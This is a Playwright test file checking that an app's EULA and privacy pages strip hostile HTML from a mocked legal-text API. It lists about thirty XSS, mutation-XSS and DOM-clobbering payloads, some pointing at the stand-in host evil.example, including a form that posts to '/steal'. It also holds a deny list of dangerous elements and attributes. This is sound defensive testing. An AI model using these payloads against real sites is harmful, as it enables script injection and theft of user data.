import type { Page } from '@playwright/test';
import { expect, test } from './harness/test.ts';
import { enterAddress } from './harness/visitor.ts';

/** Attacks that a hostile legal text could try; `hurt` is the effect. */
const ATTEMPTS: readonly string[] = [
  '<script>hurt</script>',
  '<script src="https://evil.example/x.js"></script>',
  '<scr<script>ipt>hurt</scr</script>ipt>',
  '<img src=x onerror="hurt">',
  '<img src="https://evil.example/pixel.gif">',
  '<image href=x onerror="hurt">',
  '<svg onload="hurt"><script>hurt</script></svg>',
  '<svg><animate onbegin="hurt" attributeName=x dur=1s></svg>',
  '<svg><a href="javascript:hurt"><text>tap</text></a></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=hurt&gt;"></table></mtext></math>',
  '<noscript><p title="</noscript><img src=x onerror=hurt>"></noscript>',
  '<a href="javascript:hurt">tap</a>',
  '<a href="java\tscript:hurt">tap</a>',
  '<a href="&#106;avascript:hurt">tap</a>',
  '<a href="data:text/html,<script>hurt</script>">tap</a>',
  '<a href="vbscript:hurt">tap</a>',
  '<p onclick="hurt" onmouseover="hurt" onfocus="hurt" tabindex=1 autofocus>touch</p>',
  '<details open ontoggle="hurt"><summary>open</summary></details>',
  '<input autofocus onfocus="hurt"><button formaction="javascript:hurt">press</button>',
  '<form action="https://evil.example/steal"><input name=postcode><button>Get started</button></form>',
  '<iframe src="https://evil.example"></iframe><iframe srcdoc="<script>parent.hurt</script>"></iframe>',
  '<object data="https://evil.example/x"></object><embed src="https://evil.example/x"></embed>',
  '<video src=x onerror="hurt"></video><audio src=x onerror="hurt"></audio>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/"><base href="https://evil.example/">',
  '<link rel="stylesheet" href="https://evil.example/x.css"><style>@import "https://evil.example/y.css";body{display:none}</style>',
  '<p style="position:fixed;inset:0;background:url(https://evil.example/z.png)">cover</p>',
  '<div id="root"></div><form id="cookie" name="body"><input name="parentNode"></form><a id="trustedTypes"></a>',
  '<template><script>hurt</script></template><template shadowrootmode="open"><script>hurt</script></template>',
  '<custom-element is="x" onclick="hurt"></custom-element><marquee onstart="hurt"></marquee>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=hurt></style></mglyph></form>',
];

const FAIR = '<h2>Fair words</h2><p>See <a href="https://example.org/terms">the terms</a>.</p>';

/** Replaces the server's legal text. */
async function sendLegals(page: Page, html: () => string): Promise<void> {
  await page.route('**/api/app/legals/v2', (route) =>
    route.fulfill({ json: { eula: { html: html() }, privacy: { html: html() } } }),
  );
}

/** Everything in the main part that could act, load, send or cover. */
function actors(page: Page): Promise<string[]> {
  const FORBIDDEN =
    'script,style,link,meta,base,iframe,object,embed,form,input,button,select,textarea,img,svg,math,video,audio';
  return page.getByRole('main').evaluate((main, forbidden) => {
    const acts = (element: Element): boolean =>
      element.matches(forbidden) ||
      element.localName.includes('-') ||
      element.shadowRoot !== null ||
      element.getAttributeNames().some((name) => /^on|^style$|^srcdoc$|^formaction$/.test(name)) ||
      (element instanceof HTMLAnchorElement && !/^(https?:|\/)/.test(element.getAttribute('href') ?? '/'));
    const inText = [...main.querySelectorAll('*')].filter((element) => element.closest('form') === null);
    return inText.filter(acts).map((element) => element.outerHTML);
  }, FORBIDDEN);
}

test(
  'a legal text with hostile HTML runs no script, loads nothing, covers nothing and leads nowhere',
  { tag: '@proof' },
  async ({ page, watch }) => {
    // The browser may report what it refused; the watch still sees each request and each address.
    watch.expectInConsole(/Content Security Policy|TrustedHTML/);
    let html = FAIR;
    await sendLegals(page, () => html);
    await page.goto('/app/eula');
    await expect(page.getByText('Fair words')).toBeVisible();
    const harmless = await actors(page);
    for (const [number, attempt] of ATTEMPTS.entries()) {
      const path = number % 2 === 0 ? '/app/privacy' : '/app/eula';
      html = `${FAIR}<p>Attempt ${number}</p>${attempt.replaceAll('hurt', 'window.hurt=1')}`;
      // Each page fetches the text when it is shown; loading the whole page for each attempt took four times as long.
      await enterAddress(page, path);
      await expect(page.getByText(`Attempt ${number}`, { exact: true })).toBeVisible();
      expect.soft(await actors(page), attempt).toEqual(harmless);
      for (const link of await page
        .getByRole('main')
        .getByText(/^(tap|touch|press)$/)
        .all())
        await link.click();
      expect
        .soft(await page.evaluate(() => 'hurt' in window && Reflect.deleteProperty(window, 'hurt')), attempt)
        .toBe(false);
      expect.soft(new URL(page.url()).pathname, attempt).toBe(path);
      await expect(page.getByRole('banner')).toBeVisible();
    }
  },
);

test(
  'the text and links of a legal text are kept, and a link tells the other site nothing',
  { tag: '@proof' },
  async ({ page }) => {
    await sendLegals(page, () => FAIR);
    await page.goto('/app/privacy');
    await expect(page.getByRole('heading', { name: 'Fair words' })).toBeVisible();
    const link = page.getByRole('link', { name: /the terms/ });
    await expect(link).toHaveAttribute('href', 'https://example.org/terms');
    await expect(link).toHaveAttribute('rel', /noreferrer/);
    await expect(link).toHaveAttribute('rel', /noopener/);
  },
);
